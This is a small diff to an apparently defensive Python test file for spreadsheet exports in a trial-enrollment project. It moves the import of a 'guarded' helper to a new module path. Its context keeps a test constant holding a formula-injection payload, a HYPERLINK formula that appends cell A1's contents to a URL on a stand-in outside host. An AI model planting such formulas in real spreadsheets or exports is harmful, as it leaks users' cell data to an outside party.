@@ -10,11 +10,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from analysis.exports.spreadsheet import guarded
 from enrollment import services
 from tests.access.conftest import Person, signed_in
 from tests.access.places import Places
 from trialsite.accounts.models import User
+from trialsite.lib.spreadsheet import guarded
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"see")'
 
